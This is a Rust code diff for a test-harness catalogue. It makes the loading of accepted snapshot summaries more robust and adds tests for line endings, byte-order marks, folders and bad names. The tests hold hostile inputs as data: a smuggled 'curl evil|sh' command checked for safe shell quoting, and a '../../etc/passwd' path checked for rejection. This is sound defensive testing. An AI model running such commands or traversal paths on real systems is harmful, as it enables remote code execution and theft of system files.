@@ -1,6 +1,11 @@
 //! A catalogue: the scenarios and the defects that a command line or a test target works on.
 
-use std::path::{Path, PathBuf};
+use std::{
+    io,
+    path::{Path, PathBuf},
+};
+
+use squall_reports::{html::Golden, name, plain, regular};
 
 use crate::{regression::Regressions, run::Run, scenario::Scenario};
 
@@ -119,12 +124,25 @@ impl Catalogue {
         self.fixtures.join("goldens")
     }
 
-    /// The summary that was accepted for a scenario, if one was.
-    pub(crate) fn golden(&self, scenario: &str) -> Option<String> {
-        let kept = std::fs::read_to_string(self.goldens().join(format!("{scenario}.snap"))).ok()?;
+    /// The summary that was accepted for a scenario, which may be one that a record names.
+    pub(crate) fn golden(&self, scenario: &str) -> Golden {
+        if let Err(error) = name::check(scenario) {
+            return Golden::Unreadable(error.to_string());
+        }
+        let path = self.goldens().join(format!("{scenario}.snap"));
+        let kept = match regular::read_text(&path) {
+            Ok(kept) => kept,
+            Err(error) if error.kind() == io::ErrorKind::NotFound => return Golden::Missing,
+            Err(error) => return Golden::Unreadable(format!("{}: {error}", path.display())),
+        };
         // The file begins with what insta notes about it, between two lines of dashes.
-        let (_, summary) = kept.strip_prefix("---\n")?.split_once("\n---\n")?;
-        Some(summary.to_owned())
+        match kept.strip_prefix("---\n").and_then(|kept| kept.split_once("\n---\n")) {
+            Some((_, summary)) => Golden::Summary(summary.to_owned()),
+            None => {
+                let wanted = "expected a summary after two lines of ---, as insta keeps it";
+                Golden::Unreadable(format!("{}: {wanted}", path.display()))
+            }
+        }
     }
 
     pub(crate) fn regressions(&self) -> Regressions {
@@ -181,15 +199,17 @@ fn quoted(word: &str) -> String {
     if !word.is_empty() && word.chars().all(is_plain) {
         return word.to_owned();
     }
-    let shown = word.replace(char::is_control, " ").replace('\'', "'\\''");
+    let shown = plain::line(word).replace('\'', "'\\''");
     format!("'{shown}'")
 }
 
 #[cfg(test)]
 mod tests {
-    use squall_reports::record::EndCause;
+    use std::fs;
 
-    use super::{Defect, replay_of};
+    use squall_reports::{html::Golden, record::EndCause};
+
+    use super::{Catalogue, Defect, replay_of};
     use crate::run::tests::failed_run;
 
     #[test]
@@ -202,6 +222,36 @@ mod tests {
             replay_of("x; curl evil|sh\n#'", 3, &[String::new()]),
             r"cargo squall run 'x; curl evil|sh #'\''' --seed 3 --defect ''"
         );
+    }
+
+    #[test]
+    fn a_golden_is_found_however_its_lines_end() {
+        let fixtures = std::env::temp_dir().join(format!("squall-goldens-{}", std::process::id()));
+        let goldens = fixtures.join("goldens");
+        fs::create_dir_all(&goldens).expect("the folder can be written to");
+        let catalogue = Catalogue::new(1, &fixtures);
+        let golden = |text: &[u8]| {
+            fs::write(goldens.join("slow.snap"), text).expect("the folder can be written to");
+            catalogue.golden("slow")
+        };
+        let summary = Golden::Summary("scenario: slow\nverdict: pass\n".to_owned());
+        let text = "---\nsource: x\n---\nscenario: slow\nverdict: pass\n";
+        assert_eq!(golden(text.as_bytes()), summary);
+        assert_eq!(golden(text.replace('\n', "\r\n").as_bytes()), summary);
+        assert_eq!(golden(format!("\u{feff}{text}").as_bytes()), summary);
+        for wrong in [b"\xff\xfe".as_slice(), b"scenario: slow\n"] {
+            let found = golden(wrong);
+            let names = |why: &String| why.contains("slow.snap: ");
+            assert!(matches!(&found, Golden::Unreadable(why) if names(why)), "{found:?}");
+        }
+        assert_eq!(catalogue.golden("fast"), Golden::Missing);
+        let outside = catalogue.golden("../../etc/passwd");
+        assert!(matches!(outside, Golden::Unreadable(_)), "{outside:?}");
+        fs::create_dir(goldens.join("folder.snap")).expect("the folder can be written to");
+        let folder = catalogue.golden("folder");
+        let names = |why: &String| why.ends_with("found a folder");
+        assert!(matches!(&folder, Golden::Unreadable(why) if names(why)), "{folder:?}");
+        fs::remove_dir_all(fixtures).expect("it is there");
     }
 
     #[test]
